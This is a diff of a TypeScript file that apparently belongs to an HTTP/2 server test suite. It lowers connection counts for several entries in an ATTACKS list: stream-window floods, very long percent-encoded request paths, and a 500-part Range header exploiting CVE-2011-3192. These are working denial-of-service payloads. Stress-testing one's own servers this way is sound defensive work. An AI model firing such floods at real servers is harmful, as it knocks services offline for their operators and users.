@@ -392,7 +392,7 @@ export const ATTACKS: readonly Attack[] = [
 					() => chunk,
 				),
 				// As far as the window goes, on one stream after the other (RFC 9113 §6.9.2).
-				flood(target, 4, 'h2', GREETING, (round) =>
+				flood(target, 3, 'h2', GREETING, (round) =>
 					requests(4, round, (stream) =>
 						Buffer.concat([
 							requestOn(target, stream, '/', post, false),
@@ -425,7 +425,7 @@ export const ATTACKS: readonly Attack[] = [
 		name: 'addresses of tens of thousands of characters, each another',
 		attack: (target) =>
 			Promise.all([
-				flood(target, 2, 'h2', GREETING, (round) =>
+				flood(target, 1, 'h2', GREETING, (round) =>
 					requests(5, round, (stream) => requestOn(target, stream, `/${noise(50)}${'/%61'.repeat(3500)}`)),
 				),
 				flood(target, 2, 'h2', GREETING, (round) =>
@@ -454,7 +454,7 @@ export const ATTACKS: readonly Attack[] = [
 	{
 		name: 'ranges by the hundred of a large file (CVE-2011-3192)',
 		attack: (target) =>
-			flood(target, 4, 'h2', greetingWith({ [SETTING.initialWindow]: 2 ** 20 }), (round) =>
+			flood(target, 3, 'h2', greetingWith({ [SETTING.initialWindow]: 2 ** 20 }), (round) =>
 				requests(10, round, (stream) =>
 					requestOn(target, stream, LARGE, {
 						range: `bytes=${Array.from({ length: 500 }, (_, at) => `${at}-`).join(',')}`,
